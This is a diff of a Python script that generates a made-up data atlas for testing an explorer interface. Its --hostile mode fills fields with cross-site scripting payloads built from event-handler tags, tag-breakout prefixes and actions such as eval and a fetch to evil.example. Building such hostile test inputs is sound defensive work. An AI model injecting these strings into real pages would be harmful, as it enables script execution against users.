@@ -1,9 +1,9 @@
 # SPDX-License-Identifier: Apache-2.0
 """A made-up atlas for tests of the explorer: python3 make_atlas.py SCHEMA OUT [N] [--hostile FILE]
 
-N base clusters (10000) in 4 levels, 12 facets, 52 weeks, placed in clouds on the map. With --hostile
-the titles, summaries, phrases and facet values are the strings of a JSON list and 500 more that try
-to be markup or script; there are as many clusters as that needs. Deterministic.
+N base clusters (10000) in 4 levels, 12 facets, 52 weeks, in clouds on the map. With --hostile the
+titles, summaries, phrases and facet values are the strings of a JSON list and 500 more that try to
+be markup or script; there are as many clusters as that needs. Deterministic.
 """
 import json
 import math
@@ -13,7 +13,8 @@ import sys
 
 WORDS = ("recipe travel python story music garden loan resume lesson physics contract poem server "
          "query trip diet school video budget letter photo song chess history exam email novel "
-         "visa rent bread logic robot market lyrics fitness chapter homework code table design").split()
+         "visa rent bread logic robot market lyrics fitness chapter homework code table "
+         "design").split()
 FACETS = {f"facet {c}": [f"{c}{i}" for i in range(1, 7)] for c in "abcdefghi"}
 FACETS = {"language": ["English", "Spanish", "Chinese", "German", "Japanese", "Arabic"],
           "concern": ["1", "2", "3"], "turns": ["1", "2", "3-5", "6-10", "11+"], **FACETS}
@@ -25,8 +26,8 @@ def own_payloads():
             "marquee onstart=", "iframe onload=", "object data=x onerror="]
     acts = ["alert(1)", "window.live=1", "eval('window.live=1')", "document.title='live'",
             "fetch('http://evil.example/')"]
-    shells = ["<{}>", '"><{}>', "'><{}>", "</script><{}>", "</title><{}>", "--><{}>", "</style><{}>",
-              "<<{}>", "]]><{}>", "\u202e<{}>"]
+    shells = ["<{}>", '"><{}>', "'><{}>", "</script><{}>", "</title><{}>", "--><{}>",
+              "</style><{}>", "<<{}>", "]]><{}>", "\u202e<{}>"]
     return [shell.format(tag + act) for tag in tags for act in acts for shell in shells]
 
 
